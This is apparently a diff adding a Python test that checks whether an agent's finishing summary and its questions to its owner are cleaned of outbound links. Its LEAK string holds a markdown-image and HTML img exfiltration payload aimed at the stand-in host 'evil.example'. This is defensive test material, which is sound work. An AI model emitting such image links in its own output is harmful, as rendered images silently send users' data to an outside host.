@@ -1,3 +1,4 @@
+import json
 from typing import Any
 from uuid import UUID
 
@@ -41,6 +42,20 @@ def test_a_task_whose_agent_has_ended_is_done_with_its_last_words() -> None:
     assert (function, arguments["p_attempt"]) == ("finish_task", 1)
     assert arguments["p_summary"].startswith("Done..")
     assert len(arguments["p_summary"]) == MAX_SUMMARY
+
+
+LEAK = "Done ![x](https://evil.example/?q=knee) <img src=//evil.example> [here](https://evil.example)."
+
+
+def test_what_an_agent_says_to_its_owner_carries_nothing_out() -> None:
+    finished = ScriptedDatabase(begin_task=begun(said(LEAK)), finish_task={"outcome": "done"})
+    run(finished)
+    asks = said("", name="ask_owner", arguments=json.dumps({"question": LEAK}))
+    asked = ScriptedDatabase(begin_task=begun(asks), request_input={"outcome": "waiting", "wait_id": str(WAIT_ID)})
+    run(asked)
+
+    for text in (finished.asked[-1][1]["p_summary"], asked.asked[-1][1]["p_question"]):
+        assert ("evil" in text, text.split()[0], text.split()[-1]) == (False, "Done", "here.")
 
 
 @pytest.mark.parametrize("outcome", ["done", "failed", "skipped", "cancelled"])
